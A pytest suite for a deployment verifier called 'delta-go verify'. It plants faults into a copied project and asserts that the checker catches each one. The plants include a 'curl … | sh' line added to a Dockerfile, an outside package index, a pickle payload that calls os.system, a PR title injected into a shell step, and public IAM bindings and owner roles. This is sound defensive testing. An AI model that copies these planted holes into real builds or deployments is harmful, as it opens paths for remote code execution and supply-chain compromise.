"""`delta-go verify`: every planted mistake is caught by the check of its name, and the project itself holds."""
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from delta_go.arrangement import found_by
from delta_go.domain import DeltaGoError, InputError
from delta_go.learning.registry import APPROVAL, MANIFEST_FILE, parse_manifest
from delta_go.live.rehearse import answers_at, child, free_ports, services_on
from delta_go.model_file import digest, parse_plain, plain_bytes
from delta_go.ops.verify import ITEMS, RULES, Finding, facts_of, look, look_elsewhere, paths_of, still_open, try_part, verify

ROOT = Path(__file__).parent.parent
PROGRAM = str(Path(sys.executable).parent / "delta-go")
PARTS = ("settings.ini", "setup.py", "pyproject.toml", "constraints.txt", "README.md", "Makefile", ".dockerignore", "delta_go", "deploy", "models", ".github")


@pytest.fixture
def tree(tmp_path) -> Path:
    """A copy of what is deployed, without git."""
    for name in PARTS:
        source, target = ROOT / name, tmp_path / "delta_go" / name
        target.parent.mkdir(exist_ok=True)
        if source.is_dir():
            shutil.copytree(source, target, ignore=shutil.ignore_patterns("__pycache__", "previous"))
        else:
            shutil.copy(source, target)
    return tmp_path / "delta_go"


def change(path: Path, old: str, new: str) -> None:
    """Every place of a text; it must be there."""
    text = path.read_text()
    assert old in text, f"{path.name} has no {old!r} any more: plant it another way"
    path.write_text(text.replace(old, new))


def caught(root: Path) -> dict[str, tuple[str, ...]]:
    """Faults by check, without starting anything."""
    return {finding.check: finding.faults for finding in look(root, start=False) if not finding.holds}


def test_the_copy_holds(tree):
    """What is planted below is all that is wrong."""
    assert caught(tree) == {}


HMM, TRADE, BOT = (f"deploy/{name}/Dockerfile" for name in ("hmm-detector", "trade-predictor", "bot"))
LIVE, TRY = "deploy/hmm-detector.production.yaml", "deploy/hmm-detector.staging.yaml"
FLOW, WEEKLY, CI = (f".github/workflows/{name}.yml" for name in ("deploy-gcp", "retrain", "ci"))
UNIT = "deploy/bot/delta-go-bot.service"
ALIKE, KEY = "staging as production", "0123456789abcdef0123456789abcdef"
PLANTED = {  # what: check, file, old, new, and which checks speak up too
    "the images have another Python": ("one Python", BOT, "python:3.11-slim", "python:3.12-slim"),
    "the settings have another Python": ("one Python", "settings.ini", "min_python = 3.11", "min_python = 3.12"),
    "a workflow has another Python": ("one Python", CI, '"3.11"', '"3.12"'),
    "another base": ("one Python", HMM, "FROM python:3.11-slim\n", "FROM debian:12-slim\n"),
    "a model is never copied": ("models in images", HMM, " models/hmm_model_SOLUSD.pkl", ""),
    "the predictor's model is never copied": ("models in images", TRADE, "models/manifest.json models/trade_predictor.pkl models/", "models/manifest.json models/"),
    "a port in the command": ("port from outside", HMM, "PORT=${PORT:-8080}", "PORT=8080"),
    "a port beside the right one": ("port from outside", BOT, "delta-go bot", "delta-go bot --port 8095"),
    "a port in a function": ("port from outside", "deploy/functions/hmm-detector/main.py", "import os\n", "import os\nport = 8080\n"),
    "a service that nobody deploys": ("everything is deployed", FLOW, "--services hmm-detector,trade-predictor", "--services hmm-detector"),
    "a bot that nobody deploys": ("everything is deployed", FLOW, " --bot", ""),
    "nobody deploys to production": ("everything is deployed", FLOW, "deploy --env production --services", "deploy --env staging --services", "guarded roll-outs", "staging first"),
    "no way back": ("a way back", FLOW, "--env production --abort", "--env production --resume"),
    "two roll-outs race": ("guarded roll-outs", FLOW, "cancel-in-progress: false", "cancel-in-progress: true"),
    "no environment": ("guarded roll-outs", FLOW, "    environment: production\n", ""),
    "a copied file that is not there": ("copied files", BOT, "COPY settings.ini", "COPY poetry.lock settings.ini"),
    "a file that is kept out": ("copied files", ".dockerignore", "!models\n", ""),
    "root by name": ("nobody is root", TRADE, "USER 10001:10001", "USER root"),
    "root by silence": ("nobody is root", TRADE, "USER 10001:10001\n", ""),
    "the shell form": ("exec form", HMM, 'CMD ["sh", "-c", "exec env PORT=${PORT:-8080} delta-go-serve hmm-detector"]', "CMD env PORT=${PORT:-8080} delta-go-serve hmm-detector"),
    "a shell in front": ("exec form", HMM, '"exec env', '"env'),
    "debug on": ("no debugging", LIVE, "- name: SERVICE_THREADS", '- name: FLASK_DEBUG\n              value: "1"\n            - name: SERVICE_THREADS', ALIKE),
    "a server for development": ("no debugging", "deploy/functions/trade-predictor/main.py", "import os\n", "import os\napp.run(debug=True)\n"),
    "no pin": ("pinned requirements", "deploy/bot/requirements.txt", "httpx==0.28.1", "httpx"),
    "another pin": ("pinned requirements", "deploy/bot/requirements.txt", "httpx==0.28.1", "httpx==0.27.0"),
    "no pin in a Dockerfile": ("pinned requirements", BOT, "setuptools==84.2.1", "setuptools"),
    "a floor instead of a pin": ("pinned requirements", "deploy/serving-requirements.txt", "numpy==2.4.6", "numpy>=2"),
    "a bot with all rights": ("the bot is held", "deploy/bot/delta-go-bot.service", "--cap-drop ALL", "--privileged"),
    "a bot that is root": ("the bot is held", "deploy/bot/delta-go-bot.service", "--user 10001:10001 ", ""),
    "a bot without a limit": ("the bot is held", "deploy/bot/delta-go-bot.service", "--memory 600m", ""),
    "a journal that dies with its container": ("the bot is held", UNIT, "--volume /var/lib/delta-go:/var/lib/delta-go ", ""),
    "a drain that is cut off": ("the bot is moved", UNIT, "TimeoutStopSec=60", "TimeoutStopSec=20"),
    "a container that is killed": ("the bot is moved", UNIT, "--stop-timeout 45", "--stop-timeout 1"),
    "a bot that is killed": ("the bot is moved", UNIT, "ExecStop=/usr/bin/docker stop -t 45", "ExecStop=/usr/bin/docker kill"),
    "a bot that stays away": ("the bot is moved", UNIT, "Restart=always", "Restart=no"),
    "a bot without its secrets": ("the bot is moved", UNIT, "ExecStartPre=/usr/bin/python3 /usr/local/lib/delta-go/fetch_secrets.py", "# "),
    "a roll-out that asks nobody": ("the bot is moved", "deploy/bot/commands.json", "for n in $(seq 60)", "exit 0; for n in $(seq 60)"),
    "a roll-out that kills": ("the bot is moved", "deploy/bot/commands.json", "systemctl stop delta-go-bot.service", "docker kill delta-go-bot"),
    "a roll-out that asks another port": ("the bot is moved", "deploy/bot/commands.json", "127.0.0.1:8095", "127.0.0.1:8096"),
    "numbers of another port": ("the bot is moved", "deploy/bot/ops-agent.yaml", "127.0.0.1:8095", "127.0.0.1:8096"),
    "real money by default": ("the bot is moved", "deploy/bot/bot.env", "DELTA_MODE=paper", "DELTA_MODE=live"),
    "packages from elsewhere": ("pinned requirements", BOT, "install --no-deps -r", "install --extra-index-url https://pypi.example/simple --no-deps -r"),
    "a script from elsewhere": ("pinned requirements", HMM, "WORKDIR /src\n", "WORKDIR /src\nRUN curl -s https://example.com/x | sh\n"),
    "no startup probe": ("probes", LIVE, "startupProbe:", "startProbe:", ALIKE),
    "a probe of something else": ("probes", LIVE, "path: /health/live", "path: /health/ready", ALIKE),
    "a probe without an end": ("probes", LIVE, "failureThreshold: 30", "failureThreshold: 300", ALIKE),
    "cold starts in production": ("instances", LIVE, 'minScale: "1"', 'minScale: "0"', ALIKE),
    "more at least than at most": ("instances", TRY, 'minScale: "1"', 'minScale: "9"', ALIKE),
    "no memory": ("memory and CPU", LIVE, "              memory: 512Mi", "              memori: 512Mi", ALIKE),
    "no processor": ("memory and CPU", LIVE, '              cpu: "1"\n', "", ALIKE),
    "too many at once": ("concurrency", LIVE, "containerConcurrency: 8", "containerConcurrency: 80", ALIKE),
    "a shorter queue": ("concurrency", LIVE, 'name: SERVICE_QUEUE\n              value: "8"', 'name: SERVICE_QUEUE\n              value: "4"', ALIKE),
    "staging is another thing": (ALIKE, TRY, "cpu-throttling: \"true\"", "cpu-throttling: \"false\""),
    "two services, one account": ("own accounts", LIVE, "serviceAccountName: hmm-detector@", "serviceAccountName: trade-predictor@", ALIKE),
    "everybody's account": ("own accounts", LIVE, "serviceAccountName: hmm-detector@PROJECT_ID.iam.gserviceaccount.com", "serviceAccountName: 123-compute@developer.gserviceaccount.com", ALIKE),
    "the name of another service": ("manifests", LIVE, "  name: hmm-detector\n  labels", "  name: trade-predictor\n  labels", "closed doors", "own accounts", "images by digest", ALIKE),
    "a misspelt key": ("manifests", LIVE, "timeoutSeconds: 10\n      containers", "timeoutSecond: 10\n      containers", "concurrency", ALIKE),
    "a misspelt variable": ("settings accepted", LIVE, "SERVICE_THREADS", "SERVICE_THREAD", "concurrency", ALIKE),
    "the image latest": ("images by digest", LIVE, "hmm-detector:GIT_SHA", "hmm-detector:latest", ALIKE),
    "another service's image": ("images by digest", LIVE, "delta-go/hmm-detector:", "delta-go/trade-predictor:", ALIKE),
    "everybody may ask": ("closed doors", "deploy/network.md", "\ngcloud compute addresses create bot", "\ngcloud run services add-iam-policy-binding hmm-detector --member allUsers --role roles/run.invoker\ngcloud compute addresses create bot"),
    "every Google account may ask": ("closed doors", "deploy/access/grant.py", "serviceAccount:{member}", "allAuthenticatedUsers"),
    "an image that lets in everybody": ("closed doors", HMM, "HOST=0.0.0.0", "HOST=0.0.0.0 SERVICE_AUTH=none"),
    "an open roll-out": ("closed doors", FLOW, "--no-allow-unauthenticated", "--allow-unauthenticated"),
    "IAM is not asked": ("closed doors", LIVE, "run.googleapis.com/ingress: all", 'run.googleapis.com/invoker-iam-disabled: "true"', ALIKE),
    "the service lets in another": ("closed doors", LIVE, "value: bot@PROJECT_ID", "value: somebody@PROJECT_ID", ALIKE),
    "the service asks nobody": ("closed doors", LIVE, "value: iam", "value: none", "settings accepted", ALIKE),
    "an owner": ("small roles", "deploy/access/roles.json", "roles/run.developer", "roles/owner"),
    "an editor in a command": ("small roles", "deploy/network.md", "\ngcloud compute addresses create bot", "\ngcloud projects add-iam-policy-binding PROJECT_ID --role roles/editor\ngcloud compute addresses create bot"),
    "a deployer who reads secrets": ("small roles", "deploy/access/roles.json", '"roles/run.developer"', '"roles/run.developer", "roles/secretmanager.secretAccessor"'),
    "a bot that may administer": ("small roles", "deploy/access/roles.json", '"roles/logging.logWriter", "roles/monitoring.metricWriter"', '"roles/run.admin"'),
    "a bot that reads every secret": ("small roles", "deploy/access/roles.json", '"roles/monitoring.metricWriter"', '"roles/secretmanager.secretAccessor"'),
    "a bot that administers its secrets": ("small roles", "deploy/access/roles.json", "roles/secretmanager.secretAccessor", "roles/secretmanager.admin"),
    "a deployer who gives rights where it builds": ("small roles", "deploy/access/roles.json", '"roles/cloudbuild.builds.editor"', '"roles/iam.securityAdmin"'),
    "a builder who gives rights": ("small roles", "deploy/access/roles.json", '"builder": {"project": ["roles/logging.logWriter"]', '"builder": {"project": ["roles/resourcemanager.projectIamAdmin"]'),
    "a build as the project's default account": ("own accounts", "deploy/cloudbuild.yaml", "serviceAccount: projects/${PROJECT_ID}/serviceAccounts/builder@${PROJECT_ID}.iam.gserviceaccount.com\n", ""),
    "a service with a role": ("small roles", "deploy/access/roles.json", '"trade-predictor": {"project": []', '"trade-predictor": {"project": ["roles/logging.viewer"]'),
    "a secret that moves": ("secrets by number", "deploy/bot/secrets.conf", "delta-api-key/versions/1", "delta-api-key/versions/latest"),
    "a secret in its place's stead": ("secrets by number", "deploy/bot/secrets.conf", "# DELTA_API_KEY=projects/PROJECT_ID/secrets/delta-api-key/versions/1", "DELTA_API_KEY=hello"),
    "a secret that moves in a manifest": ("secrets by number", LIVE, "- name: SERVICE_THREADS", "- name: SERVICE_API_KEYS\n              valueFrom: {secretKeyRef: {name: service-api-keys, key: latest}}\n            - name: SERVICE_THREADS", ALIKE),
    "a key in a setting": ("no keys in files", "deploy/bot/bot.env", "DELTA_STATUS_PORT=8095", f"DELTA_STATUS_PORT=8095\nDELTA_API_SECRET={KEY}"),
    "a key in a workflow": ("no keys in files", FLOW, "DELTA_NOTIFY: ${{ secrets.DELTA_NOTIFY }}", f"DELTA_API_SECRET: {KEY}"),
    "a key in a manifest": ("no keys in files", LIVE, "- name: SERVICE_THREADS", f"- name: SERVICE_API_KEYS\n              value: me:{KEY}\n            - name: SERVICE_THREADS", "secrets by number", ALIKE),
    "a private key in the code": ("no keys in files", "delta_go/domain.py", "# AUTOGENERATED", "# -----BEGIN RSA " + "PRIVATE KEY-----\n# AUTOGENERATED"),
    "an action by its tag": ("pinned actions", CI, "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1", "actions/checkout@v7"),
    "a workflow that may write all": ("least permissions", CI, "permissions: {}", "permissions: write-all"),
    "a job that may write": ("least permissions", CI, "contents: read", "contents: write"),
    "a token left behind": ("least permissions", CI, "persist-credentials: false", "persist-credentials: true"),
    "strangers start it": ("least permissions", CI, "  pull_request:\n", "  pull_request_target:\n"),
    "retraining deploys": ("retraining proposes", WEEKLY, "run: .github/propose.sh", "run: .github/propose.sh && .venv/bin/delta-go deploy --env production"),
    "retraining becomes the deployer": ("retraining proposes", WEEKLY, "issues: write", "issues: write\n      id-token: write", "least permissions"),
    "retraining's script deploys": ("retraining proposes", ".github/propose.sh", "git push", "gh workflow run deploy-gcp.yml\ngit push"),
    "retraining merges its own proposal": ("retraining proposes", ".github/propose.sh", "gh pr create", "gh pr merge --auto retrain || gh pr create"),
    "retraining pushes to main": ("retraining proposes", ".github/propose.sh", "--force origin retrain", "--force origin HEAD:main"),
    "retraining has a secret": ("retraining proposes", WEEKLY, "github.token", "secrets.ADMIN"),
    "new models that nobody deploys": ("everything is deployed", FLOW, '"models/**", ', ""),
    "what trains may write": ("retraining proposes", WEEKLY, "timeout-minutes: 240\n    permissions:\n      contents: read", "timeout-minutes: 240\n    permissions:\n      contents: write"),
    "retraining starts workflows": ("retraining proposes", WEEKLY, "actions: read # what was trained", "actions: write"),
    "a stranger's words as a command": ("plain steps", CI, "run: make wheel", 'run: make wheel TITLE="${{ github.event.pull_request.title }}"'),
    "a stranger on our machine": ("plain steps", CI, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    "a failure that does not count": ("plain steps", FLOW, "        id: roll-out\n", "        id: roll-out\n        continue-on-error: true\n"),
    "a failure that the shell forgives": ("plain steps", CI, "run: make test", "run: make test || true"),
    "a pull request deploys": ("guarded roll-outs", FLOW, "  workflow_dispatch:\n", "  pull_request:\n  workflow_dispatch:\n"),
    "every branch deploys": ("guarded roll-outs", FLOW, "branches: [main]", 'branches: ["**"]'),
    "production beside staging": ("staging first", FLOW, "    needs: staging\n", ""),
    "production after a staging that failed": ("staging first", FLOW, "    needs: staging\n", "    needs: staging\n    if: always()\n"),
    "nothing is verified": ("staging first", FLOW, "        run: .venv/bin/delta-go verify\n", "        run: .venv/bin/delta-go --help\n"),
    "changes are not verified": ("staging first", CI, "delta-go verify --full", "delta-go --help"),
    "retraining in production": ("retraining proposes", WEEKLY, "    timeout-minutes: 15\n", "    timeout-minutes: 15\n    environment: production\n"),
    "an alarm about nothing": ("alarms hear something", "deploy/alerts/bot-quota.yaml", "delta_go_bot_quota_used_ratio", "delta_go_bot_quota"),
    "an alarm on a name that is none": ("alarms hear something", "deploy/alerts/bot-silent.yaml", "delta_go_bot_heartbeat_age_seconds", "deltago_heartbeat"),
    "an alarm on a log metric that is none": ("alarms hear something", "deploy/alerts/service-errors.yaml", "user/delta-go-service-errors", "user/delta-go-service-failures"),
    "an alarm on a state that is none": ("alarms hear something", "deploy/alerts/bot-halted.yaml", 'state="HALTED"', 'state="HALTD"'),
    "an alarm on a label that is none": ("alarms hear something", "deploy/alerts/bot-breaker-open.yaml", 'position="open"', 'state="open"'),
    "an alarm that is off": ("alarms hear something", "deploy/alerts/bot-silent.yaml", "enabled: true", "enabled: false"),
    "a workflow that cannot be read": ("a way back", FLOW, "jobs:", "jobs: [", "pinned actions", "least permissions", "plain steps", "everything is deployed", "guarded roll-outs", "staging first", "retraining proposes"),
}


@pytest.mark.parametrize("what", PLANTED)
def test_planted(what, tree):
    """Caught by name, in the file it stands in, and nothing else cries."""
    name, file, old, new, *too = PLANTED[what]
    change(tree / file, old, new)
    found = {check: faults for _, check, faults in found_by(facts_of(tree), RULES) if faults}
    assert found.keys() == {name, *too}
    assert any(Path(file).name in fault or Path(file).parent.name in fault for fault in found[name]), found[name]
    assert KEY not in str(found), "a secret is not shown"


def lose(name: str):
    return lambda models: (models / name).unlink()


def flip(models: Path) -> None:
    """One bit of one byte."""
    raw = bytearray((models / "hmm_model_ETHUSD.pkl").read_bytes())
    raw[len(raw) // 2] ^= 1
    (models / "hmm_model_ETHUSD.pkl").write_bytes(raw)


def put(models: Path, name: str, raw: bytes) -> None:
    """A file, with its hash in the manifest."""
    manifest = json.loads((models / MANIFEST_FILE).read_text())
    manifest["files"][name]["sha256"] = digest(raw)
    (models / name).write_bytes(raw)
    (models / MANIFEST_FILE).write_text(json.dumps(manifest))


def turn(models: Path, name: str, edit) -> None:
    """A model's data, edited."""
    raw = (models / name).read_bytes()
    data = parse_plain(raw, digest(raw), name)
    edit(data)
    put(models, name, plain_bytes(data, name))


def relist(models: Path) -> None:
    """Two inputs change places in the manifest."""
    manifest = json.loads((models / MANIFEST_FILE).read_text())
    listed = manifest["files"]["trade_predictor.pkl"]["features"]
    listed[8], listed[9] = listed[9], listed[8]
    (models / MANIFEST_FILE).write_text(json.dumps(manifest))


def judge_it(models: Path, **approval) -> dict:
    """A verdict by hand, and an approval where one is given."""
    manifest = json.loads((models / MANIFEST_FILE).read_text()) | {"verdict": "trade"}
    (models / MANIFEST_FILE).write_text(json.dumps(manifest))
    if approval:
        manifest["approval"] = {"set": parse_manifest((models / MANIFEST_FILE).read_bytes()).version, "rules": "1", "replaces": None, "data_end": 0, **approval}
        (models / MANIFEST_FILE).write_text(json.dumps(manifest))
    return manifest.get("approval", {})


MODELS = {
    "a changed byte": ("model hashes", flip), "a lost model": ("model files", lose("hmm_model_SOLUSD.pkl")), "a lost manifest": ("model files", lose(MANIFEST_FILE)),
    "a stray model": ("model files", lambda models: shutil.copy(models / "hmm_model_BTCUSD.pkl", models / "hmm_model_XRPUSD.pkl")),
    "a model that runs code": ("models load", lambda models: put(models, "hmm_model_BTCUSD.pkl", b"\x80\x05cos\nsystem\n(S'true'\ntR.")),
    "other answers": ("recorded answers", lambda models: turn(models, "trade_predictor.pkl", lambda data: data["golden"]["answers"].__setitem__(0, 0.123))),
    "a parameter that is no number": ("recorded answers", lambda models: turn(models, "hmm_model_BTCUSD.pkl", lambda data: data["golden"]["answers"].__setitem__(0, float("nan")))),
    "another list of features": ("feature lists", relist),
    "a verdict that nobody gave": ("approval", judge_it),
}


@pytest.mark.parametrize("what", MODELS)
def test_planted_in_a_model(what, tree):
    """The step that fails is named, and the file."""
    name, plant = MODELS[what]
    plant(tree / "models")
    found = caught(tree)
    assert name in found and any(".pkl" in fault or MANIFEST_FILE in fault for fault in found[name])
    assert not [check for check, faults in found.items() if check in ("model files", "model hashes", "models load", "recorded answers", "feature lists", "approval") and faults and check != name]


@pytest.mark.parametrize("card, words", [(None, "not there or was changed"), ({"outcome": "refused"}, "does not"), ({"outcome": "approved", "candidate": "0" * 12}, "does not"), ({"outcome": "approved"}, "")])
def test_an_approval_is_worth_its_card(card, words, tree):
    """Written into a manifest it says nothing: the card it names lies there and approves this very set."""
    version = judge_it(tree / "models", card="0" * 64)["set"]
    raw = json.dumps({"candidate": version, **(card or {})}).encode()
    if card:
        (tree / "reports/promotion").mkdir(parents=True)
        (tree / f"reports/promotion/{version}.json").write_bytes(raw)
        judge_it(tree / "models", card=digest(raw))
    found = caught(tree)
    assert (list(found) == ["approval"] and words in found["approval"][0]) if words else not found


def test_a_file_of_keys_is_noticed(tree):
    (tree / ".env").write_text("DELTA_MODE=paper\n")
    (tree / "deploy/deployer.pem").write_text("x")
    assert len(caught(tree)["no keys in files"]) == 2


def test_what_git_keeps_out_is_not_there(tree):
    """A model that lies on the desk alone is missing for everybody else."""
    subprocess.run(["git", "init", "-q"], cwd=tree, check=True)
    assert "models/hmm_model_SOLUSD.pkl" in paths_of(tree) and caught(tree) == {}
    (tree / ".gitignore").write_text("*SOLUSD.pkl\n__pycache__\n")
    assert "models/hmm_model_SOLUSD.pkl" not in paths_of(tree)
    assert list(caught(tree)) == ["copied files"]


# Starting


@pytest.mark.parametrize("file, old, new, words", [
    (TRADE, "COPY delta_go delta_go\n", "", "No module named 'delta_go'"),
    (TRADE, "models/manifest.json models/trade_predictor.pkl models/", "models/manifest.json models/", "trade_predictor.pkl"),
    ("deploy/serving-requirements.txt", "msgspec==0.22.0\n", "", "No module named 'msgspec'"),
    (TRADE, "env PORT=${PORT:-8080}", "env PORT={port}", "nobody listens there"),
    (TRADE, "delta-go-serve trade-predictor", "delta-go-server trade-predictor", "No such file"),
], ids=["no package", "no model", "no library", "a port of its own", "no such program"])
def test_what_does_not_start(file, old, new, words, tree):
    """An image that lacks something does not start, although this environment has it; it says what was missing."""
    change(tree / file, old, new.replace("{port}", str(free_ports(1)[0])))
    with pytest.raises(DeltaGoError) as refusal:
        try_part(tree, "trade-predictor", seconds=8)
    assert words in str(refusal.value)


def run(*words: str, cwd: Path = ROOT, **environ: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([PROGRAM, "verify", *words], cwd=cwd, capture_output=True, text=True, timeout=300, env={**os.environ, "NO_COLOR": "1", **environ})


def test_the_project_holds(tmp_path):
    """The whole look, with all three components started: a tick a check, exit code 0, and what is open before production."""
    done = run("--json", str(tmp_path / "found.json"))
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads((tmp_path / "found.json").read_text())
    names = [finding["check"] for finding in report["checks"]]
    assert all(finding["holds"] for finding in report["checks"]) and len(set(names)) == len(names)
    assert {check for named in RULES.values() for check in named} | {f"{part} starts" for part in ("hmm-detector", "trade-predictor", "bot")} < set(names)
    assert [line.split(":")[0] for line in re.findall(r"^  ✓ (.+)$", done.stdout, re.M)] == names and "✗" not in done.stdout
    assert "8 recorded requests answered" in done.stdout and "ready on an emulated exchange" in done.stdout
    assert [item["what"] for item in report["before_production"]] == list(ITEMS) and all(what in done.stdout for what in ITEMS)


@pytest.mark.slow
def test_the_project_holds_in_empty_environments():
    """The same with each component's requirements installed by pip alone."""
    done = run("--full")
    assert done.returncode == 0, done.stdout + done.stderr


def test_a_fault_ends_with_1_and_its_cure(tree):
    """Its name, where, what and how to mend it; nothing is started then."""
    change(tree / BOT, "USER 10001:10001", "USER root")
    done = run(cwd=tree)
    assert done.returncode == 1 and "  ✗ nobody is root\n      deploy/bot/Dockerfile: expected" in done.stdout and "write USER 10001:10001" in done.stdout
    assert done.stdout.count("– ") == 3 and done.stderr.startswith("failed: 4 of ")


@pytest.mark.parametrize("words", [["--url", "hmm-detector"], ["--url", "https://"], ["--ful"]])
def test_bad_input_ends_with_2(words):
    assert run(*words).returncode == 2


def test_another_folder_ends_with_2(tmp_path):
    done = run(cwd=tmp_path)
    assert done.returncode == 2 and done.stderr.startswith("error: verify: expected the repository's own folder")


# Services that run


LIAR = """
import delta_go.serving.predict_trade as room
right = room.predict_probability
room.predict_probability = lambda model, rows: right(model, rows) + 1e-6
from delta_go.serving.server import main; main()
"""


def test_running_services(tmp_path):
    """Two real services answer to the bit; one that says something else, or speaks of other models, is told so; one that is none too."""
    [port, nobody] = free_ports(2)
    told = {"TRADE_PREDICTOR_MODEL": str(ROOT / "models"), "HOST": "127.0.0.1", "PORT": str(port), "SERVICE_AUTH": "none", "K_SERVICE": "", "LOG_LEVEL": "ERROR"}
    other = shutil.copytree(ROOT / "models", tmp_path / "models")
    turn(other, "trade_predictor.pkl", lambda data: data["golden"]["answers"].append(data["golden"]["answers"][0]) or data["golden"]["question"]["rows"].append(data["golden"]["question"]["rows"][0]))
    with services_on(ROOT / "models") as services, child(["-c", LIAR, "trade-predictor"], told, answers_at(f"http://127.0.0.1:{port}")) as liar:
        good = [*look_elsewhere(list(services.values()), ROOT / "models")]
        [wrong] = look_elsewhere([liar], ROOT / "models")
        [strange] = look_elsewhere([services["trade-predictor"]], other)
        [gone] = look_elsewhere([f"http://127.0.0.1:{nobody}"], ROOT / "models")
        done = run("--url", services["hmm-detector"], "--url", liar)
    assert [finding.seen.partition(":")[0] for finding in good] == ["hmm-detector", "trade-predictor"] and all(finding.holds for finding in good)
    assert "they differ by 1e-06" in wrong.faults[0]
    assert "expected model_version" in strange.faults[0] and "no answer" in gone.faults[0]
    assert done.returncode == 1 and done.stdout.count("✓") == 1 and done.stdout.count("✗") == 1 and "before production" not in done.stdout


def test_services_are_asked_with_the_bots_key(monkeypatch):
    """The key of the settings opens; without it the refusal is told, and the key never."""
    key, [port] = "a-key-for-this-test-0123456789abcdef", free_ports(1)
    told = {"HMM_MODEL_DIR": str(ROOT / "models"), "HOST": "127.0.0.1", "PORT": str(port), "SERVICE_AUTH": "api_key", "SERVICE_API_KEYS": f"bot:{key}", "K_SERVICE": "", "LOG_LEVEL": "ERROR"}
    with child(["-c", "from delta_go.serving.server import main; main()", "hmm-detector"], told, answers_at(f"http://127.0.0.1:{port}")) as address:
        [refused] = look_elsewhere([address], ROOT / "models")
        monkeypatch.setenv("DELTA_SERVICE_AUTH", "api_key")
        monkeypatch.setenv("DELTA_SERVICE_KEY", key)
        [answered] = look_elsewhere([f"{address}/detect_regime"], ROOT / "models")
    assert "refused with 401" in refused.faults[0] and answered.holds and key not in str((refused, answered))


def test_cloud_run_is_asked_with_a_token(monkeypatch, tmp_path):
    """A token of gcloud's for the account that may ask, made out to the service; without gcloud the cure is told."""
    asked = tmp_path / "asked"
    (tmp_path / "gcloud").write_text(f"#!/bin/sh\necho \"$@\" > {asked}\necho e30.e30.e30\n")
    (tmp_path / "gcloud").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    monkeypatch.setenv("DELTA_GCP_CALLER", "deployer@project-one.iam.gserviceaccount.com")
    [finding] = look_elsewhere(["https://hmm-detector-1.invalid.run.app"], ROOT / "models")
    assert not finding.holds
    assert asked.read_text() == "auth print-identity-token --audiences=https://hmm-detector-1.invalid.run.app --impersonate-service-account=deployer@project-one.iam.gserviceaccount.com --include-email\n"


# Before production


def test_an_item_is_done_when_it_is_seen(tree, monkeypatch):
    """Open on an empty desk; done by what the environment and files show, and by nothing else."""
    before = {item.what: item.done for item in still_open(tree, {})}
    assert before == {what: what == "memory" for what in ITEMS}
    version = next(look(tree, start=False)).seen.rpartition(" ")[2]
    (tree / "build/deploy").mkdir(parents=True)
    (tree / "build/deploy/staging.json").write_text(json.dumps({"outcome": "done", "models": version}))
    (tree / "build/federated.json").write_text('{"type": "external_account"}')
    (tree / "reports/promotion").mkdir(parents=True)
    (tree / f"reports/promotion/{version}.json").write_text("{}")
    manifest = json.loads((tree / "models/manifest.json").read_text())
    manifest["approval"] = {name: value for name, value in {"set": version, "card": digest(b"{}"), "rules": "1", "replaces": None, "data_end": 0}.items() if name in APPROVAL}
    (tree / "models/manifest.json").write_text(json.dumps(manifest))
    change(tree / "deploy/bot/secrets.conf", "# DELTA_API", "DELTA_API")
    change(tree / "deploy/bot/secrets.conf", "PROJECT_ID", "project-one")
    for name, value in {"DELTA_NOTIFY": "json://localhost", "HMM_ENDPOINT": "https://a.example", "TRADE_PREDICTOR_ENDPOINT": "https://b.example"}.items():
        monkeypatch.setenv(name, value)
    after = {item.what: item.done for item in still_open(tree, {"DELTA_GCP_PROJECT": "project-one", "DELTA_GCP_PROJECT_NUMBER": "1"})}
    assert after == {what: what != "models that may trade" for what in ITEMS}
    (tree / f"reports/promotion/{version}.json").write_text("{ }")
    (tree / "build/deploy/staging.json").write_text("{")
    seen = {item.what: item for item in still_open(tree, {})}
    assert not seen["approval card of the models"].done and "cannot be seen" in seen["passed staging"].seen


def test_words_of_a_fault_are_not_markup():
    """What others wrote cannot colour the terminal or hide a line."""
    shown: list[str] = []
    verify(iter([Finding("a", "b", ("[red]x[/red] [link=y]",))]), iter([]), shown.append)
    assert shown[-1].strip() == r"\[red]x\[/red] \[link=y]"


def test_no_project():
    with pytest.raises(InputError, match="own folder"):
        facts_of(ROOT / "deploy")
